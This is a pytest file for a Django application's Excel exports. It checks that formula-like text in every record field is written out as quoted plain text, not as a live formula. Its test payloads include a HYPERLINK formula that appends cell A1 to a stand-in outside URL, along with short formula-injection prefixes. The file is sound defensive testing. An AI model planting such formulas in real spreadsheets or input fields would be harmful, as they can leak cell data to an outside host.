"""Excel files never carry a live formula: every text field of every record, filled with formula-like text,
comes out of every export, template and ledger as plain text."""

import io

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.urls import URLPattern, URLResolver, get_resolver

from fazhi.core.generic import ObjectListView
from fazhi.core.models import Org, User
from fazhi.core.xlsx import FORMULA_STARTS

from ..conftest import login

pytestmark = pytest.mark.django_db

COUNTY = "990121"
# What an attacker types into a text field; each ends in the row's id, so rows stay distinct.
LONG = '=HYPERLINK("http://x.invalid/"&A1,"点击查看")&"'
SHORT = ["=1+", "+1+", "-1+", "@SUM(1)+", "\t=1+", "\r=1+"]


def poison_every_text_field() -> int:
    """Write formula-like text into every free-text field of 示例县's rows (choices, codes and paths aside)."""
    county = Org.objects.get(code=f"{COUNTY}.wjw")
    written = 0
    for model in apps.get_models():
        if model._meta.app_label not in {"core", "plans", "activities", "enforcement", "draws", "cases", "reports"}:
            continue
        if model.__name__.startswith("Historical") or not hasattr(model, "scope_path_field"):
            continue
        if model.scope_path_field is None:  # reference data is the same for every county
            continue
        rows = model._base_manager.filter(**{f"{model.scope_path_field}__startswith": county.path})
        fields = [f for f in model._meta.concrete_fields
                  if isinstance(f, models.CharField | models.TextField) and not f.choices and f.editable
                  and f.name not in {"password", "username", "path", "code"}
                  and (f.max_length or 1000) >= 10]  # a shorter field cannot hold a formula and the row's id
        for index, field in enumerate(fields):
            prefix = LONG if (field.max_length or 1000) >= 60 else SHORT[index % len(SHORT)]
            written += rows.update(**{field.name: Concat(Value(prefix), Cast("pk", CharField()))})
    people = User.objects.filter(org__path__startswith=county.path)
    people.update(full_name=Concat(Value("=1+"), Cast("pk", CharField())))
    return written


def list_view_names() -> set[str]:
    """The URL names of every list page, whose ?_export=xlsx gives its filtered rows."""
    def walk(resolver):
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                yield from walk(entry)
            elif isinstance(entry, URLPattern):
                view = getattr(entry.callback, "view_class", None)
                if view is not None and issubclass(view, ObjectListView):
                    yield entry.name
    return set(walk(get_resolver()))


def export_urls() -> dict[str, str]:
    from fazhi.activities.ledgers import LEDGERS
    from fazhi.plans.models import Plan

    plan = Plan.objects.filter(org__code=f"{COUNTY}.wjw", status="issued").first()
    urls = {
        "org_list": "/orgs/", "user_list": "/users/", "time_limit_list": "/time-limits/",
        "evidence_list": "/evidence/", "plan_list": "/plans/", "task_list": "/tasks/",
        "officer_list": "/enforcement/officers/", "entity_list": "/enforcement/entities/",
        "power_list": "/enforcement/powers/", "check_item_list": "/enforcement/check-items/",
        "lenient_list": "/enforcement/lenient-items/", "inspection_list": "/enforcement/inspections/",
        "case_list": "/enforcement/cases/", "evaluation_round_list": "/enforcement/cases/evaluations/",
        "draw_task_list": "/enforcement/draws/",
    }
    urls = {name: f"{url}?_export=xlsx" for name, url in urls.items()}
    urls |= {f"activity_list:{ledger.slug}": f"/activities/{ledger.slug}/?_export=xlsx" for ledger in LEDGERS}
    urls |= {f"activity_template:{ledger.slug}": f"/activities/{ledger.slug}/template/" for ledger in LEDGERS}
    urls |= {"ledger_export": f"/plans/{plan.pk}/ledger.xlsx",
             "ledger_export:single": f"/plans/{plan.pk}/ledger.xlsx?layout=single",
             "entity_template": "/enforcement/entities/template/"}
    return urls


def formula_like_cells(content: bytes) -> tuple[int, list[str]]:
    """(cells holding formula-like text, the cells Excel would run)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen, live = 0, []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    seen += 1
                    if not cell.quotePrefix:
                        live.append(f"{sheet.title}!{cell.coordinate} {cell.value!r} (no quote prefix)")
    return seen, live


def test_every_list_page_is_among_the_exports_checked():
    checked = {name.split(":")[0] for name in export_urls()}
    assert not list_view_names() - checked, "add these list pages to export_urls()"


def test_formula_text_in_every_field_is_exported_as_text_never_as_a_formula():
    assert poison_every_text_field() > 1000
    client = login("xian_fazhi")
    templates = {name for name in export_urls() if "template" in name}
    for name, url in export_urls().items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
        seen, live = formula_like_cells(response.content)
        assert not live, f"{url}: {live[:5]}"
        if name not in templates and name not in {"time_limit_list"}:
            assert seen, f"{url} exported none of the formula-like text"


def test_text_typed_as_a_formula_reads_back_as_typed():
    from fazhi.core.xlsx import workbook_bytes

    book = openpyxl.Workbook()
    for column, text in enumerate(['=HYPERLINK("http://x.invalid","看")', "+86 138", "-5", "@me", "\t1", "\r1",
                                   "普通文字"], start=1):
        book.active.cell(row=1, column=column, value=text)
    reread = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active
    assert [c.value for c in reread[1]] == ['=HYPERLINK("http://x.invalid","看")', "+86 138", "-5", "@me", "\t1",
                                            "\r1", "普通文字"]
    assert [c.data_type for c in reread[1]] == ["s"] * 7
    assert [c.quotePrefix for c in reread[1]] == [True] * 6 + [False]
